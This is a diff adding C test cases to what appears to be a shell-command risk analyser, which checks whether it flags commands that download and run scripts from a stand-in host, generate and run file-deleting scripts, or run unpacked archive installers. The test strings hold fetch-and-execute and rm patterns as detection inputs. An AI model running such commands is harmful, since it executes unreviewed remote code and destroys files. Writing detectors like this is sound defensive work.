@@ -93,6 +93,66 @@ static void downloads(void)
 	CHECK_ALL(rows, FACT_DOUBT);
 }
 
+static void downloads_in_other_ways(void)
+{
+	static const struct example rows[] = {
+		ROW("cat > f <<< \"$(curl -s https://x.example/i)\"; sh f", "fetched-script"),
+		ROW("x=$(curl -s https://x.example/i); cat > f <<E\n$x\nE\nsh f", "fetched-script"),
+		ROW("{ curl -s https://x.example/i; } > f; sh f; (wget -qO- https://x.example/i) > "
+		    "g; . ./g",
+			"fetched-script; fetched-script"),
+		ROW("if true; then curl -s https://x.example/i | sed 1d; fi > f; sh f",
+			"fetched-script"),
+		ROW("curl -s https://x.example/i | sudo tee /usr/local/bin/f; f x",
+			"fetched-script"),
+		ROW("python3 -c \"import requests; "
+		    "open('f','w').write(requests.get('https://x.example/i').text)\"; sh f",
+			"fetched-script"),
+		ROW("printf 'IP=%s' \"$(date)\" > f; . ./f; echo \"IP=$(curl "
+		    "https://x.example/i)\" > g; . ./g",
+			""),
+		ROW("cat > f <<< \"IP=$(curl -s https://x.example/i)\"; . ./f", ""),
+		ROW("{ curl -s http://localhost/i; } > f; sh f; curl https://x.example/i > g; h g",
+			""),
+	};
+	CHECK_ALL(rows, FACT_DOUBT);
+}
+
+static void what_code_writes(void)
+{
+	static const struct example deletes[] = {
+		ROW("python3 -c \"open('f','w').write('rm /a')\"; sh f", "/a"),
+		ROW("node -e \"fs.writeFileSync('f.sh','#!/bin/sh\\nrm /a')\" && chmod +x f.sh && "
+		    "./f.sh",
+			"/a"),
+		ROW("perl -e 'open F,\">f\"; print F \"rm /a\"'; . ./f; ruby -e "
+		    "'File.write(\"g\",\"rm /b\")'; sh g",
+			"/a; /b"),
+		ROW("python3 - <<'E'\np = 'f.py'\nopen(p, 'w').write('import os; "
+		    "os.remove(\"/a\")')\nE\npython3 f.py",
+			"/a"),
+		ROW("python3 -c \"open('f','w').write('rm /a')\"; cat f; sh g; rm $(cat f)", ""),
+	};
+	static const struct example doubts[] = {
+		ROW("python3 -c \"open('f','w').write(x)\"; sh f; sh g", "unread-script"),
+		ROW("python3 -c \"open('f').read()\"; sh f", ""),
+	};
+	CHECK_ALL(deletes, FACT_DELETES);
+	CHECK_ALL(doubts, FACT_DOUBT);
+}
+
+static void what_archives_hold(void)
+{
+	static const struct example rows[] = {
+		ROW("tar xf a.tgz && ./a/install.sh; sh /srv/x.sh", "unread-script"),
+		ROW("unzip -d /x a.zip; sh /x/run.sh; bash run.sh", "unread-script"),
+		ROW("7z x a.7z -ox; cd x; ./run.sh", "unread-script"),
+		ROW("tar tf a.tgz; ./install.sh; tar cf x.tar x; sh x/y.sh", ""),
+		ROW("tar xf a.tgz; echo ls > x.sh; sh x.sh", ""),
+	};
+	CHECK_ALL(rows, FACT_DOUBT);
+}
+
 static void programs_under_other_names(void)
 {
 	static const struct example rows[] = {
@@ -113,6 +173,9 @@ int main(void)
 	TEST(long_texts);
 	TEST(links_of_the_call);
 	TEST(downloads);
+	TEST(downloads_in_other_ways);
+	TEST(what_code_writes);
+	TEST(what_archives_hold);
 	TEST(programs_under_other_names);
 	arena_finish(&arena);
 	return test_done();
